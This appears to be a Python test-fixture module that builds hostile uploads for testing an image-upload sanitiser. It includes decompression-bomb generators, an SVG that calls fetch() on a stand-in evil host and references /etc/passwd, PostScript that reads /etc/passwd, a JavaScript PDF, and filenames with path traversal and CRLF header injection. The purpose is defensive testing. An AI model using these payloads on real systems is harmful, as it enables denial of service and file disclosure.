"""Files that people who mean harm might send as their picture, each made here from bytes."""

import io
import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from typing import Any

from PIL import Image

NOT_A_PICTURE = "not_a_picture"
TOO_MANY_PIXELS = "too_many_pixels"
FINE = ""
# What must never be found in what we serve.
SECRET = b"GPS of the villa"


@dataclass(frozen=True)
class Hostile:
    """A file, what its sender calls it, and what we say to it ("" for: we make a picture)."""

    make: Callable[[], bytes]
    answer: str
    name: str = "me.png"
    kind: str = "image/png"


@cache
def gradient(width: int = 300, height: int = 200) -> Image.Image:
    """Red grows to the right, green downwards: shows how a picture was turned and cut."""
    across = Image.linear_gradient("L").rotate(90).resize((width, height))
    down = Image.linear_gradient("L").resize((width, height))
    return Image.merge("RGB", (across, down, Image.new("L", (width, height))))


def encoded(kind: str, image: Image.Image | None = None, **options: Any) -> bytes:
    """An image as a file."""
    output = io.BytesIO()
    (image or gradient()).save(output, kind, **options)
    return output.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG, its checksum right."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *chunks: bytes, bits: int = 8, colour: int = 2) -> bytes:
    """A PNG of whatever size it says."""
    header = struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(chunks) + chunk(b"IEND", b"")


def zeros(count: int) -> bytes:
    """So many zero bytes in the format of zlib (RFC 1950), without packing each of them."""
    packer = zlib.compressobj(9, wbits=-15)
    million = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    rest = packer.compress(bytes(count % 1_000_000)) + packer.flush()
    checksum = (count % 65_521) << 16 | 1
    return b"\x78\xda" + million * (count // 1_000_000) + rest + struct.pack(">I", checksum)


def png_bomb(side: int) -> bytes:
    """Black, in a few kilobytes."""
    return png(side, side, chunk(b"IDAT", zeros(side * (side * 3 + 1))))


def endless_png() -> bytes:
    """Its pixels are few, what they are unpacked from is half a gigabyte."""
    return png(100, 100, chunk(b"IDAT", zeros(500_000_000)))


def text_bomb() -> bytes:
    """Comments that unpack to a gigabyte."""
    packed = zeros(30_000_000)
    comments = [chunk(b"zTXt", b"c%d\0\0" % n + packed) for n in range(30)]
    pixels = chunk(b"IDAT", zlib.compress(b"\0" + bytes(3)))
    return png(1, 1, *comments, pixels)


def profile_bomb() -> bytes:
    """A colour profile that unpacks to 300 MB."""
    pixels = chunk(b"IDAT", zlib.compress(b"\0" + bytes(3)))
    return png(1, 1, chunk(b"iCCP", b"p\0\0" + zeros(300_000_000)), pixels)


def gif(width: int, height: int, *, frame: tuple[int, int] | None = None) -> bytes:
    """One frame of one pixel, or of the size given, on a screen of any size."""
    size = frame or (1, 1)
    screen = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    image = b"\x2c" + struct.pack("<HHHHB", 0, 0, *size, 0)
    return screen + image + b"\x02\x02\x44\x01\x00" + b"\x3b"


def long_gif() -> bytes:
    """Ten thousand frames: only the first is anybody's business."""
    still = encoded("GIF", gradient(20, 20))
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return still.removesuffix(b"\x3b") + frame * 10_000 + b"\x3b"


def big_webp() -> bytes:
    """16383 x 16383 pixels, it says; a decoder that believes it makes room for two gigabytes."""
    size = (16_382).to_bytes(3, "little")
    extended = b"VP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + size + size
    still = encoded("WEBP", gradient(16, 16))[12:]
    return b"RIFF" + struct.pack("<I", len(extended) + len(still) + 4) + b"WEBP" + extended + still


def big_lossless_webp() -> bytes:
    """The same in the format without loss."""
    bits = (16_382) | (16_382 << 14)
    data = b"\x2f" + struct.pack("<I", bits) + bytes(64)
    body = b"VP8L" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def with_location(kind: str) -> bytes:
    """A photograph that tells where it was taken, in every place metadata may stand."""
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()
    exif.get_ifd(0x8825)[29] = SECRET.decode()
    xmp = b"<x:xmpmeta>" + SECRET + b"</x:xmpmeta>"
    profile = bytes(128) + SECRET
    more: dict[str, Any] = {"comment": SECRET} if kind == "JPEG" else {}
    return encoded(kind, exif=exif, xmp=xmp, icc_profile=profile, **more)


def turned(orientation: int) -> bytes:
    """A photograph whose camera was held another way."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    return encoded("JPEG", exif=exif, quality=95)


def broken_exif() -> bytes:
    """Metadata that leads its reader in a circle."""
    loop = b"Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0"
    still = encoded("JPEG")
    return still[:2] + b"\xff\xe1" + struct.pack(">H", len(loop) + 2) + loop + still[2:]


def garbled(kind: str) -> bytes:
    """Half of it replaced by noise."""
    still = bytearray(encoded(kind))
    noise = random.Random(7)  # noqa: S311 - the same noise each time
    for at in range(len(still) // 2, len(still)):
        still[at] = noise.randrange(256)
    return bytes(still)


def many_scans() -> bytes:
    """A progressive JPEG in full size: its decoder keeps every coefficient."""
    large = gradient(5000, 5000).convert("CMYK")
    return encoded("JPEG", large, progressive=True, subsampling=0, quality=90)


HTML = b"<script>alert(document.domain)</script>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b'<script>fetch("//evil.example")</script><image href="file:///etc/passwd"/></svg>'
)
POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n"
ZIP = b"PK\x03\x04\x14\0\0\0\0\0" + bytes(64)
TIFF = b"II*\0\x08\0\0\0\0\0" + bytes(64)
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
FILES: dict[str, Hostile] = {
    "nothing at all": Hostile(bytes, NOT_A_PICTURE),
    "one byte": Hostile(lambda: b"\x89", NOT_A_PICTURE),
    "a signature alone": Hostile(lambda: b"\x89PNG\r\n\x1a\n", NOT_A_PICTURE),
    "words": Hostile(lambda: b"I am a picture, honestly.", NOT_A_PICTURE, "me.jpg", "image/jpeg"),
    "SVG with script": Hostile(lambda: SVG, NOT_A_PICTURE, "me.svg", "image/svg+xml"),
    "SVG that says it is a PNG": Hostile(lambda: SVG, NOT_A_PICTURE),
    "HTML": Hostile(lambda: HTML, NOT_A_PICTURE, "me.html", "text/html"),
    "PostScript": Hostile(lambda: POSTSCRIPT, NOT_A_PICTURE, "me.eps"),
    "PDF": Hostile(lambda: PDF, NOT_A_PICTURE, "me.pdf", "application/pdf"),
    "TIFF": Hostile(lambda: TIFF, NOT_A_PICTURE, "me.tiff"),
    "BMP": Hostile(lambda: encoded("BMP"), NOT_A_PICTURE, "me.bmp"),
    "an archive": Hostile(lambda: ZIP, NOT_A_PICTURE),
    "GIF that is JavaScript": Hostile(lambda: b"GIF89a=1;alert(1)//" + bytes(64), NOT_A_PICTURE),
    "PNG with a page in it": Hostile(
        lambda: encoded("PNG") + HTML + ZIP, FINE, "me.html", "text/html"
    ),
    "JPEG with a page in it": Hostile(
        lambda: encoded("JPEG", comment=HTML) + HTML, FINE, "me.php.jpg", "image/jpeg"
    ),
    "GIF with a page in it": Hostile(
        lambda: encoded("GIF", comment=HTML) + HTML, FINE, "me.gif", "application/javascript"
    ),
    "PNG of 30000 x 30000": Hostile(lambda: png_bomb(30_000), TOO_MANY_PIXELS),
    "PNG of 5001 x 5001": Hostile(lambda: png_bomb(5_001), TOO_MANY_PIXELS),
    "PNG of 2 billion x 2 billion": Hostile(
        lambda: png(2**31 - 1, 2**31 - 1, chunk(b"IDAT", zlib.compress(b"\0"))), TOO_MANY_PIXELS
    ),
    "PNG of no width": Hostile(
        lambda: png(0, 10, chunk(b"IDAT", zlib.compress(b"\0"))), NOT_A_PICTURE
    ),
    "PNG that unpacks for ever": Hostile(endless_png, FINE),
    "PNG with comments that are bombs": Hostile(text_bomb, NOT_A_PICTURE),
    "PNG with a profile that is a bomb": Hostile(profile_bomb, NOT_A_PICTURE),
    "PNG of 25 megapixels": Hostile(lambda: png_bomb(5_000), FINE),
    "PNG of one line": Hostile(lambda: encoded("PNG", gradient(20_000, 1)), FINE),
    "GIF of one frame of 65535 x 65535": Hostile(
        lambda: gif(65_535, 65_535, frame=(65_535, 65_535)), TOO_MANY_PIXELS, "me.gif"
    ),
    "GIF on a screen of 65535 x 65535": Hostile(
        lambda: gif(65_535, 65_535), TOO_MANY_PIXELS, "me.gif"
    ),
    "GIF whose frame outgrows its screen": Hostile(
        lambda: gif(1, 1, frame=(65_535, 65_535)), TOO_MANY_PIXELS, "me.gif"
    ),
    "GIF of ten thousand frames": Hostile(long_gif, FINE, "me.gif", "image/gif"),
    "WebP of 16383 x 16383": Hostile(big_webp, TOO_MANY_PIXELS, "me.webp", "image/webp"),
    "WebP without loss of 16383 x 16383": Hostile(
        big_lossless_webp, TOO_MANY_PIXELS, "me.webp", "image/webp"
    ),
    "JPEG of 25 megapixels in many scans": Hostile(many_scans, FINE, "me.jpg", "image/jpeg"),
    "JPEG that tells where it was taken": Hostile(
        lambda: with_location("JPEG"), FINE, "me.jpg", "image/jpeg"
    ),
    "PNG that tells where it was taken": Hostile(lambda: with_location("PNG"), FINE),
    "WebP that tells where it was taken": Hostile(
        lambda: with_location("WEBP"), FINE, "me.webp", "image/webp"
    ),
    "JPEG with metadata in a circle": Hostile(broken_exif, FINE, "me.jpg", "image/jpeg"),
    "JPEG that breaks off": Hostile(
        lambda: encoded("JPEG")[:1500], NOT_A_PICTURE, "me.jpg", "image/jpeg"
    ),
    "PNG that breaks off": Hostile(lambda: encoded("PNG")[:-200], NOT_A_PICTURE),
    "WebP that breaks off": Hostile(
        lambda: encoded("WEBP")[:-100], NOT_A_PICTURE, "me.webp", "image/webp"
    ),
    "JPEG half noise": Hostile(lambda: garbled("JPEG"), NOT_A_PICTURE, "me.jpg", "image/jpeg"),
    "a name that is a path": Hostile(lambda: encoded("PNG"), FINE, "../../../../etc/cron.d/me.png"),
    "a name that is a path elsewhere": Hostile(
        lambda: encoded("PNG"), FINE, "C:\\Windows\\me.png\x00.exe"
    ),
    "a name of line ends": Hostile(lambda: encoded("PNG"), FINE, "me\r\nSet-Cookie: a=b.png"),
}
# For each route that takes pictures; what is made of all of them is tests/libs/files' to prove.
FEW = (
    "nothing at all",
    "SVG with script",
    "SVG that says it is a PNG",
    "TIFF",
    "PNG with a page in it",
    "PNG of 30000 x 30000",
    "PNG with comments that are bombs",
    "GIF of one frame of 65535 x 65535",
    "WebP of 16383 x 16383",
    "JPEG that tells where it was taken",
    "JPEG that breaks off",
    "a name that is a path",
    "a name of line ends",
)


def opened(data: bytes) -> Image.Image:
    """A file as an image."""
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def is_made_anew(data: bytes) -> bool:
    """Whether it is a still WebP that holds nothing but pixels."""
    image = opened(data)
    planted = (SECRET, HTML, ZIP, b"alert(", b"EXIF", b"XMP ", b"ICCP")
    return (
        (image.format, getattr(image, "n_frames", 1)) == ("WEBP", 1)
        and not image.getexif()
        and set(image.info) <= {"loop", "background", "timestamp", "duration"}
        and not any(words in data for words in planted)
    )
